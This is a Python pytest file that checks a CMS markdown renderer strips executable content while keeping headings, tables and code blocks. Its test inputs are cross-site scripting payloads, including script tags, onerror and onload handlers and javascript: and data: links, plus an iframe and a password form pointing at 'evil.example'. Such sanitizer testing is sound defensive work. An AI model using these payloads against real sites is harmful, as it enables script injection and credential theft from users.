"""Markdown never brings code with it."""

import re

import pytest

from cms.markdown import MOST_CHARACTERS, html_of


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<svg onload=alert(1)>",
        "<a href='#' style='position:fixed'>a</a>",
        "# a {: onclick=alert(1) style=color:red }",
        "<iframe src='//evil.example'></iframe>",
        "<form action=//evil.example><input name=password></form>",
    ],
)
def test_code_does_not_survive(text: str) -> None:
    html = " ".join(re.findall(r"<[^>]*>", html_of(text).lower()))

    for bad in ("<script", "onerror=", "onload=", "onclick=", "style=", "<iframe", "<form"):
        assert bad not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html


def test_prose_tables_and_code_survive() -> None:
    html = html_of("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx < 1\n```")

    assert '<h1 id="title">Title</h1>' in html
    assert "<td>1</td>" in html
    assert '<code class="language-python">x &lt; 1' in html


def test_a_text_that_is_too_long_is_refused() -> None:
    with pytest.raises(ValueError, match="at most"):
        html_of("a" * (MOST_CHARACTERS + 1))
